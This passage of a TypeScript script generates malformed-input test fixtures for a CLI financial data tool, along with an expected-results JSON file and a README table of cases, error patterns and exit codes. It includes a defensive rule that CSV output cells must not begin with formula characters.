    '(`apply --scheme retail-aum`) by `test/engine/hostile-cli.test.ts`. Every case must end in correct data (plus a warning',
    'where something was off) or a clear error naming the file and, where known, the line, column or field; never a crash, a',
    'hang, a blank page, or a number silently set to 0. Already loaded data must survive every failure.',
    '',
    '`message` / `CLI stderr` are regular expressions (JavaScript syntax). `values` are spot checks `customer_id → aum`',
    '(`null` = no value: tiered `unrated`, never 0 / `mass`), then `@period` and `"name"` where checked. The CLI row is',
    '`apply --scheme retail-aum --input <file> --out <file>.csv`; on CSV output no text cell may start with `=`, `+`, `-`, `@`.',
    '',
    '| file | case | outcome | rows | message (regex) | values | CLI |',
    '|---|---|---|---|---|---|---|',
  ];
  for (const c of cases) {
    const values = (c.values ?? [])
      .map((x) => `${x.customer_id} → ${x.aum === null ? 'null' : x.aum}${x.period ? ` @${x.period}` : ''}${x.customer_name !== undefined ? ` "${x.customer_name}"` : ''}`)
      .join('; ');
    const cli = c.cli ? `exit ${c.cli.exit}${c.cli.stderr ? `, stderr /${c.cli.stderr}/` : ''}` : '';
    const map = c.map ? ` (map: ${Object.entries(c.map).map(([f, col]) => `${f}=${col}`).join(', ')})` : '';
    const file = c.generated ? `${c.file} *(generated at test time)*` : `\`${c.file}\``;
    out.push(
      `| ${file} | ${cell(c.case + map)} | ${c.outcome} | ${c.rows ?? ''} | ${c.message ? `\`${cell(c.message)}\`` : ''} | ${cell(values)} | ${cell(cli)} |`,
    );
  }
  return `${out.join('\n')}\n`;
}

async function main(): Promise<void> {
  mkdirSync(DIR, { recursive: true });
  // Start clean so a renamed case leaves nothing stale behind.
  for (const f of readdirSync(DIR)) rmSync(path.join(DIR, f), { force: true });
  const table: HostileCase[] = [];
  const names = new Set<string>();
  for (const { bytes, ...c } of ENTRIES) {
    if (names.has(c.file)) throw new Error(`duplicate file ${c.file}`);
    names.add(c.file);
    if (c.outcome !== 'error' && c.rows === undefined) throw new Error(`${c.file}: rows needed`);
    if (c.outcome !== 'ok' && c.message === undefined) throw new Error(`${c.file}: message needed`);
    for (const r of [c.message, c.cli?.stderr]) if (r !== undefined) new RegExp(r);
    if (!c.generated) {
      if (bytes === undefined) throw new Error(`${c.file}: no bytes`);
      const data = typeof bytes === 'function' ? await bytes() : bytes;
      if (data.length >= MAX_BYTES) throw new Error(`${c.file}: ${data.length} bytes, over the ${MAX_BYTES} limit`);
      writeFileSync(path.join(DIR, c.file), data);
    }
    table.push(c);
  }
  writeFileSync(EXPECTED_FILE, `${JSON.stringify(table, null, 2)}\n`);
  writeFileSync(path.join(DIR, 'README.md'), readme(table));
  const files = table.filter((c) => !c.generated).length;
  console.log(`${files} files + ${table.length - files} generated at test time → ${DIR} (expected.json, README.md)`);
}

await main();
